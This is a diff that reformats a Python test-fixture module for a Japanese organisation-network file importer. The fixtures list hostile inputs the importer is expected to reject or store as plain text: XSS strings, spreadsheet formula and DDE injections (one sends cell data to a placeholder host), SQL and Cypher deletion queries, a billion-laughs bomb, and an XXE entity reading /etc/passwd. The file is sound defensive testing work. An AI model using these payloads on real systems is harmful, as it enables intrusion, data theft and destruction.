@@ -17,8 +17,8 @@ __all__ = ["file_cases", "form_values", "NAMES", "SCRIPT_NAMES", "FORMULA_NAMES"
 
 SCRIPT_NAMES = [
     "<script>alert(1)</script>",
-    '<img src=x onerror=alert(1)>',
-    '<svg onload=alert(1)>',
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
     '"><script>console.log("XSS-MARKER")</script>',
     "<iframe src=javascript:alert(1)>",
     "javascript:alert(1)",
@@ -36,14 +36,14 @@ FORMULA_NAMES = [
     "-2+3",
     "@SUM(A1:A9)",
     "=cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A2),\"//a\")",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
 ]
 QUERY_NAMES = [
     "'); DROP TABLE orgs;--",
     "x' OR '1'='1",
     "1; DELETE FROM audit",
-    "\" UNION SELECT password_hash FROM users --",
+    '" UNION SELECT password_hash FROM users --',
     "MATCH (n) DETACH DELETE n",
     "'}) MATCH (n) DETACH DELETE n //",
     "CALL db.labels() YIELD label RETURN label",
@@ -98,8 +98,7 @@ def file_cases() -> list[tuple[str, str, bytes, str, list[str]]]:
     # --- binary junk (16)
     rng = random.Random(20240401)
     for i in range(10):
-        add((f"junk-{i}", f"junk{i}.csv", bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4000))),
-             "either"))
+        add((f"junk-{i}", f"junk{i}.csv", bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4000))), "either"))
     add(("png", "logo.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "either"))
     add(("zip-not-xlsx", "book.xlsx", b"PK\x03\x04" + bytes(200), "reject"))
     add(("truncated-xlsx", "trunc.xlsx", b"PK\x03\x04\x14\x00\x06\x00", "reject"))
@@ -115,23 +114,41 @@ def file_cases() -> list[tuple[str, str, bytes, str, list[str]]]:
     add(("unclosed-quote", "quote.csv", b'name,sector\n"never closed,npo\n', "either"))
     # --- 10,000-column rows (4)
     add(("row-10000-cols", "wide.csv", ("name,sector\n" + ",".join(["x"] * 10_000) + "\n").encode(), "reject"))
-    add(("header-10000-cols", "wide2.csv", (",".join(f"c{i}" for i in range(10_000)) + "\na\n").encode(),
-         "reject"))
-    add(("named-10000-cols", "wide3.csv",
-         ("name,sector," + ",".join(f"x{i}" for i in range(10_000)) + "\n甲,npo\n").encode(), "either"))
-    add(("ties-10000-cols", "ties.csv", ("source,target,type\n" + ",".join(["a"] * 10_000) + "\n").encode(),
-         "reject"))
+    add(("header-10000-cols", "wide2.csv", (",".join(f"c{i}" for i in range(10_000)) + "\na\n").encode(), "reject"))
+    add(
+        (
+            "named-10000-cols",
+            "wide3.csv",
+            ("name,sector," + ",".join(f"x{i}" for i in range(10_000)) + "\n甲,npo\n").encode(),
+            "either",
+        )
+    )
+    add(("ties-10000-cols", "ties.csv", ("source,target,type\n" + ",".join(["a"] * 10_000) + "\n").encode(), "reject"))
     # --- names: markup, formulas, queries, control characters (40), one file each
     for i, n in enumerate(NAMES):  # a control character is refused (issue 9 item 5), anything else kept as text
         add((f"name-{i:02d}", f"orgs{i}.csv", _orgs_csv([n]), "reject" if _refused(n) else "verbatim", [n]))
     # --- the same names in one CP932 file where they encode, and in JSON (2)
     enc = [n for n in SCRIPT_NAMES + QUERY_NAMES if _encodes(n, "cp932")]
     add(("names-cp932", "orgs_sjis.csv", _orgs_csv(enc, encoding="cp932"), "verbatim", enc))
-    add(("names-json", "orgs.json", json.dumps([{"name": n, "sector": "npo"} for n in NAMES],
-                                               ensure_ascii=False).encode(), "reject", NAMES))
+    add(
+        (
+            "names-json",
+            "orgs.json",
+            json.dumps([{"name": n, "sector": "npo"} for n in NAMES], ensure_ascii=False).encode(),
+            "reject",
+            NAMES,
+        )
+    )
     kept = [n for n in NAMES if not _refused(n)]
-    add(("names-json-kept", "orgs.json", json.dumps([{"name": n, "sector": "npo"} for n in kept],
-                                                    ensure_ascii=False).encode(), "verbatim", kept))
+    add(
+        (
+            "names-json-kept",
+            "orgs.json",
+            json.dumps([{"name": n, "sector": "npo"} for n in kept], ensure_ascii=False).encode(),
+            "verbatim",
+            kept,
+        )
+    )
     # --- workbooks and JSON that attack the reader (issue 9 items 5, 7, 8, 9)
     cases.extend(_reader_attacks())
     # --- JSON and structure (18)
@@ -149,12 +166,16 @@ def file_cases() -> list[tuple[str, str, bytes, str, list[str]]]:
     add(("bad-sector", "s.csv", "name,sector\n甲,宇宙人\n".encode(), "reject"))
     add(("ties-unknown-orgs", "ties2.csv", "source,target,type\n幽霊団体,亡霊団体,協働\n".encode(), "reject"))
     add(("ties-self", "ties3.csv", "source,target,type\n石巻市,石巻市,協働\n".encode(), "reject"))
-    add(("ties-strength-99", "ties4.csv", "source,target,type,strength\n石巻市,れんぷく,協働,99\n".encode(),
-         "reject"))
-    add(("ties-bad-dates", "ties5.csv",
-         "source,target,type,start,end\n石巻市,れんぷく,協働,2024-13-45,2020-01-01\n".encode(), "reject"))
-    add(("corporate-number-bad", "c.csv", "name,sector,corporate_number\n甲,企業,1234567890123\n".encode(),
-         "reject"))
+    add(("ties-strength-99", "ties4.csv", "source,target,type,strength\n石巻市,れんぷく,協働,99\n".encode(), "reject"))
+    add(
+        (
+            "ties-bad-dates",
+            "ties5.csv",
+            "source,target,type,start,end\n石巻市,れんぷく,協働,2024-13-45,2020-01-01\n".encode(),
+            "reject",
+        )
+    )
+    add(("corporate-number-bad", "c.csv", "name,sector,corporate_number\n甲,企業,1234567890123\n".encode(), "reject"))
     add(("crlf-cr-mix", "crlf.csv", b"name,sector\r\n\xe7\x94\xb2,npo\r\xe4\xb9\x99,npo\n", "either"))
     return cases
 
@@ -164,8 +185,9 @@ def _refused(name: str) -> bool:
     C0 and C1 controls, DEL, bidirectional overrides, lone surrogates, U+FFFE, U+FFFF."""
     import re
 
-    return re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]",
-                     name.strip()) is not None
+    return (
+        re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]", name.strip()) is not None
+    )
 
 
 def _reader_attacks() -> list[tuple[str, str, bytes, str, list[str]]]:
@@ -176,8 +198,11 @@ def _reader_attacks() -> list[tuple[str, str, bytes, str, list[str]]]:
 
     nine = [f"団体{i}" for i in range(9)]
     plain = book([("AAA", "npo", "仙台市")])
-    lol = ('<!DOCTYPE worksheet [<!ENTITY l0 "lol">'
-           + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>")
+    lol = (
+        '<!DOCTYPE worksheet [<!ENTITY l0 "lol">'
+        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+        + "]>"
+    )
     xxe = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     bz = io.BytesIO()
     src = zipfile.ZipFile(io.BytesIO(plain))
@@ -185,17 +210,36 @@ def _reader_attacks() -> list[tuple[str, str, bytes, str, list[str]]]:
         for info in src.infolist():
             z.writestr(info.filename, src.read(info.filename))
     return [
-        ("xlsx-stale-dimension", "stale.xlsx",
-         stale_dimension(book([(n, "npo", "仙台市") for n in nine]), "A1:C2"), "verbatim", nine),
-        ("xlsx-billion-laughs", "lol.xlsx",
-         edit(plain, SHEET, lambda b: lol.encode() + b.replace(b"AAA", b"&l9;")), "reject", []),
-        ("xlsx-external-entity", "xxe.xlsx",
-         edit(plain, SHEET, lambda b: xxe.encode() + b.replace(b"AAA", b"&x;")), "reject", []),
-        ("xlsx-lying-size", "liar.xlsx", lie_about_size(book([(n, "npo", "x" * 300) for n in nine]), SHEET, 64),
-         "reject", []),
+        (
+            "xlsx-stale-dimension",
+            "stale.xlsx",
+            stale_dimension(book([(n, "npo", "仙台市") for n in nine]), "A1:C2"),
+            "verbatim",
+            nine,
+        ),
+        (
+            "xlsx-billion-laughs",
+            "lol.xlsx",
+            edit(plain, SHEET, lambda b: lol.encode() + b.replace(b"AAA", b"&l9;")),
+            "reject",
+            [],
+        ),
+        (
+            "xlsx-external-entity",
+            "xxe.xlsx",
+            edit(plain, SHEET, lambda b: xxe.encode() + b.replace(b"AAA", b"&x;")),
+            "reject",
+            [],
+        ),
+        (
+            "xlsx-lying-size",
+            "liar.xlsx",
+            lie_about_size(book([(n, "npo", "x" * 300) for n in nine]), SHEET, 64),
+            "reject",
+            [],
+        ),
         ("xlsx-bzip2", "bz.xlsx", bz.getvalue(), "reject", []),
-        ("xlsx-c1-city", "c1.xlsx", edit(plain, SHEET, _c1_city),
-         "reject", []),
+        ("xlsx-c1-city", "c1.xlsx", edit(plain, SHEET, _c1_city), "reject", []),
         ("json-lone-surrogate", "s.json", b'[{"name": "a\\ud800b", "sector": "npo"}]', "reject", []),
         ("json-surrogate-key", "k.json", b'[{"name": "a", "sector": "npo", "x\\udfffy": 1}]', "reject", []),
         ("csv-c1-city", "c1.csv", "name,sector,city\n甲,npo,石巻\u0085市\n".encode(), "reject", []),
@@ -224,11 +268,17 @@ def form_values() -> list[tuple[str, dict, str]]:
         ("org-bad-sector", {"name": "甲", "sector": "<script>"}, "reject"),
         ("org-bad-corp", {"name": "甲", "sector": "company", "corporate_number": "' OR 1=1 --"}, "reject"),
         ("tie-unknown", {"source": "<script>alert(1)</script>", "target": "石巻市", "type": "協働"}, "reject"),
-        ("tie-bad-type", {"source": "石巻市", "target": "みやぎ連携復興センター", "type": "MATCH (n) DELETE n"},
-         "reject"),
+        (
+            "tie-bad-type",
+            {"source": "石巻市", "target": "みやぎ連携復興センター", "type": "MATCH (n) DELETE n"},
+            "reject",
+        ),
         ("tie-bad-strength", {"source": "石巻市", "target": "みやぎ連携復興センター", "strength": "=1+1"}, "reject"),
-        ("tie-bad-date", {"source": "石巻市", "target": "みやぎ連携復興センター", "start": "'; DROP TABLE ties"},
-         "reject"),
+        (
+            "tie-bad-date",
+            {"source": "石巻市", "target": "みやぎ連携復興センター", "start": "'; DROP TABLE ties"},
+            "reject",
+        ),
     ]
     return out
 
